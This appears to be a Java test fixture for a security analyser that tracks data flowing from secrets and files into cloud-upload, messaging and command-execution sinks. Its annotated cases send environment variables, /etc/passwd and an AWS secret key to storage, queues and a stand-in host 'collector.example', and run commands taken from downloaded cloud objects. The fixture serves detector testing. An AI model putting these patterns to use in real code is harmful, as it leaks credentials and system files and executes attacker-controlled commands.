// AWS SDK for Java 1 and 2, Google Cloud Storage, Azure Storage, MinIO, Firebase.
package app;

import com.amazonaws.auth.AWSCredentials;
import com.amazonaws.services.s3.*;
import com.amazonaws.services.s3.model.*;
import com.amazonaws.services.s3.transfer.TransferManager;
import com.amazonaws.services.sqs.AmazonSQS;
import com.azure.storage.blob.BlobClient;
import com.azure.storage.queue.QueueClient;
import com.google.cloud.pubsub.v1.Publisher;
import com.google.cloud.storage.*;
import com.google.firebase.database.*;
import com.google.firebase.firestore.*;
import com.google.firebase.storage.*;
import io.minio.*;
import java.io.*;
import java.nio.ByteBuffer;
import org.springframework.web.client.RestTemplate;
import software.amazon.awssdk.core.sync.RequestBody;
import software.amazon.awssdk.services.s3.S3Client;
import software.amazon.awssdk.services.sqs.SqsClient;
import software.amazon.awssdk.services.sqs.model.SendMessageRequest;

class Cloud {
    static final String U = "https://collector.example/u";
    static final RestTemplate rest = new RestTemplate();

    void put() {
        AmazonS3 s3 = AmazonS3ClientBuilder.defaultClient(); //~ capability(NETWORK)
        s3.putObject("bucket", "key", System.getenv("T")); //~ source(ENVIRONMENT) f1, sink(egress.cloud) f1, finding(traced) f1
    }

    void putText(AmazonS3 s3) {
        s3.putObject("bucket", "key", System.getenv("T")); //~ source(ENVIRONMENT) f2, sink(egress.cloud) f2, finding(traced) f2
        s3.putObject("bucket", "key", "x"); //~ ok
    }

    void putFile(AmazonS3 s3) {
        s3.putObject("bucket", "key", new File("/etc/passwd")); //~ source(FILE) f3, sink(egress.cloud) f3, finding(traced) f3, capability(FILES)
    }

    void putRequest(AmazonS3 s3) {
        s3.putObject(new PutObjectRequest("bucket", "key", new ByteArrayInputStream(System.getenv("T").getBytes()), null)); //~ source(ENVIRONMENT) f4, sink(egress.cloud) f4, finding(traced) f4
        s3.putObject(new PutObjectRequest("bucket", "key", new ByteArrayInputStream(new byte[1]), null)); //~ ok
    }

    void putRequestFile(AmazonS3 s3) {
        s3.putObject(new PutObjectRequest("bucket", "key", new File("/etc/passwd"))); //~ source(FILE) f5, sink(egress.cloud) f5, finding(traced) f5
    }

    void transferred(TransferManager manager) {
        manager.upload("bucket", System.getenv("T"), null); //~ source(ENVIRONMENT) f6, sink(egress.cloud) f6, finding(traced) f6
        manager.upload("bucket", "key", null); //~ ok
    }

    void got(AmazonS3 s3) {
        S3Object object = s3.getObject("bucket", "key"); //~ source(NETWORK) f7
        Runtime.getRuntime().exec(new String(object.getObjectContent().readAllBytes())); //~ sink(exec.command) f7, finding(traced) f7
        Runtime.getRuntime().exec("x" + (s3.getObject("bucket", "key").getObjectContent() == null)); //~ ok
    }

    void gotText(AmazonS3Client s3) {
        Runtime.getRuntime().exec(s3.getObjectAsString("bucket", "key").trim()); //~ source(NETWORK) f8, sink(exec.command) f8, finding(traced) f8
        Runtime.getRuntime().exec("x" + (s3.getObjectAsString("bucket", "key") == null)); //~ ok
    }

    void queued(AmazonSQS sqs) {
        sqs.sendMessage("queue", System.getenv("T")); //~ source(ENVIRONMENT) f9, sink(egress.cloud) f9, finding(traced) f9, capability(NETWORK)
        sqs.sendMessage("queue", "x"); //~ ok
    }

    void putConstants() {
        AmazonS3ClientBuilder.defaultClient(); //~ ok
    }

    void newer() {
        S3Client s3 = S3Client.create(); //~ capability(NETWORK)
        s3.putObject(null, RequestBody.fromString(System.getenv("T"))); //~ source(ENVIRONMENT) f10, sink(egress.cloud) f10, finding(traced) f10
        S3Client.create().putObject(null, RequestBody.fromString("x")); //~ ok
    }

    void newerFile(S3Client s3) {
        s3.putObject(null, RequestBody.fromFile(new File("/etc/passwd"))); //~ source(FILE) f11, sink(egress.cloud) f11, finding(traced) f11, capability(FILES)
        RequestBody.fromFile(new File("/etc/passwd")); //~ ok
    }

    void newerGot(S3Client s3) {
        Runtime.getRuntime().exec(new String(s3.getObject(null).readAllBytes())); //~ source(NETWORK) f12, sink(exec.command) f12, finding(traced) f12
        Runtime.getRuntime().exec("x" + (s3.getObject(null) == null)); //~ ok
    }

    void newerQueued(SqsClient sqs) {
        sqs.sendMessage(SendMessageRequest.builder().queueUrl("q").messageBody(System.getenv("T")).build()); //~ source(ENVIRONMENT) f13, sink(egress.cloud) f13, finding(traced) f13, capability(NETWORK)
        sqs.sendMessage(SendMessageRequest.builder().queueUrl("q").messageBody("x").build()); //~ ok
    }

    void credentials(AWSCredentials credentials) {
        rest.postForObject(U, credentials.getAWSSecretKey(), String.class); //~ source(CREDENTIAL) f14, sink(egress.http) f14, finding(traced) f14, capability(CREDENTIALS)
        rest.postForObject(U, credentials.getAWSSecretKey() == null, String.class); //~ ok
    }

    void google() {
        Storage storage = StorageOptions.getDefaultInstance().getService(); //~ capability(NETWORK)
        storage.create(null, System.getenv("T").getBytes()); //~ source(ENVIRONMENT) f15, sink(egress.cloud) f15, finding(traced) f15
        StorageOptions.getDefaultInstance().getService().create(null, new byte[1]); //~ ok
    }

    void googleFile(Storage storage) {
        storage.createFrom(null, java.nio.file.Path.of("/etc/passwd")); //~ source(FILE) f30, sink(egress.cloud) f30, finding(traced) f30, capability(FILES)
        storage.createFrom(null, new ByteArrayInputStream(new byte[1])); //~ ok
    }

    void googleWriter(Storage storage) {
        storage.writer(null).write(ByteBuffer.wrap(System.getenv("T").getBytes())); //~ source(ENVIRONMENT) f16, sink(egress.cloud) f16, finding(traced) f16
        storage.writer(null).write(ByteBuffer.wrap(new byte[1])); //~ ok
    }

    void googleRead(Storage storage) {
        Runtime.getRuntime().exec(new String(storage.readAllBytes(null))); //~ source(NETWORK) f17, sink(exec.command) f17, finding(traced) f17
        Runtime.getRuntime().exec("x" + (storage.readAllBytes(null) == null)); //~ ok
    }

    void googleMessage(Publisher publisher) {
        publisher.publish(System.getenv("T")); //~ source(ENVIRONMENT) f18, sink(egress.message) f18, finding(traced) f18, capability(NETWORK)
        publisher.publish("x"); //~ ok
    }

    void azure(BlobClient blob) {
        blob.upload(new FileInputStream("/etc/passwd"), 1); //~ source(FILE) f19, sink(egress.cloud) f19, finding(traced) f19, capability(NETWORK)
        blob.upload(new ByteArrayInputStream(new byte[1]), 1); //~ ok
    }

    void azureFile(BlobClient blob) {
        blob.uploadFromFile("/etc/passwd"); //~ source(FILE) f20, sink(egress.cloud) f20, finding(traced) f20, capability(FILES)
        new Own().uploadFromFile("/etc/passwd"); //~ ok
    }

    void azureRead(BlobClient blob) {
        Runtime.getRuntime().exec(new String(blob.openInputStream().readAllBytes())); //~ source(NETWORK) f21, sink(exec.command) f21, finding(traced) f21
        Runtime.getRuntime().exec("x" + (blob.openInputStream() == null)); //~ ok
    }

    void azureQueue(QueueClient queue) {
        queue.sendMessage(System.getenv("T")); //~ source(ENVIRONMENT) f22, sink(egress.message) f22, finding(traced) f22, capability(NETWORK)
        queue.sendMessage("x"); //~ ok
    }

    void minio(MinioClient client) {
        client.putObject(PutObjectArgs.builder().object("o").stream(new FileInputStream("/etc/passwd"), 1, 1).build()); //~ source(FILE) f23, sink(egress.cloud) f23, finding(traced) f23, capability(NETWORK)
        client.putObject(PutObjectArgs.builder().object("o").stream(new ByteArrayInputStream(new byte[1]), 1, 1).build()); //~ ok
    }

    void minioFile(MinioClient client) {
        client.uploadObject(UploadObjectArgs.builder().filename("/etc/passwd").build()); //~ source(FILE) f24, sink(egress.cloud) f24, finding(traced) f24, capability(FILES)
        UploadObjectArgs.builder().filename("/etc/passwd"); //~ ok
    }

    void fire() {
        DatabaseReference users = FirebaseDatabase.getInstance("https://fire.collector.example").getReference("u"); //~ capability(NETWORK), endpoint("https://fire.collector.example")
        users.child("x").setValue(System.getenv("T")); //~ source(ENVIRONMENT) f25, sink(egress.cloud) f25, finding(traced) f25
    }

    void fireRead(DatabaseReference users) {
        users.addValueEventListener(new ValueEventListener() { //~ source(NETWORK) f26, capability(NETWORK)
            public void onDataChange(DataSnapshot data) {
                Runtime.getRuntime().exec(data.child("c").getValue().toString()); //~ sink(exec.command) f26, finding(traced) f26
            }
        });
        users.addValueEventListener(null); //~ ok
    }

    void fireConstants(DataSnapshot data) {
        FirebaseDatabase.getInstance("https://fire.collector.example").getReference("u").child("x").setValue("y"); //~ ok
        rest.postForObject(U, data.getValue(), String.class); //~ ok
    }

    void fireStored() {
        FirebaseStorage.getInstance().getReference().child("x").putBytes(System.getenv("T").getBytes()); //~ source(ENVIRONMENT) f27, sink(egress.cloud) f27, finding(traced) f27, capability(NETWORK)
        FirebaseStorage.getInstance().getReference().child("x").putBytes(new byte[1]); //~ ok
    }

    void fireStoredFile(StorageReference to, File file) {
        to.putFile(android.net.Uri.fromFile(file)); //~ source(FILE) f28, sink(egress.cloud) f28, finding(traced) f28, capability(FILES)
        new Own().putFile(android.net.Uri.fromFile(file)); //~ ok
    }

    void fireDocument() {
        FirebaseFirestore.getInstance().collection("x").add(System.getenv("T")); //~ source(ENVIRONMENT) f29, sink(egress.cloud) f29, finding(traced) f29, capability(NETWORK)
        FirebaseFirestore.getInstance().collection("x").add("y"); //~ ok
    }
}

class Own {
    void uploadFromFile(String path) {}

    void putFile(Object uri) {}
}
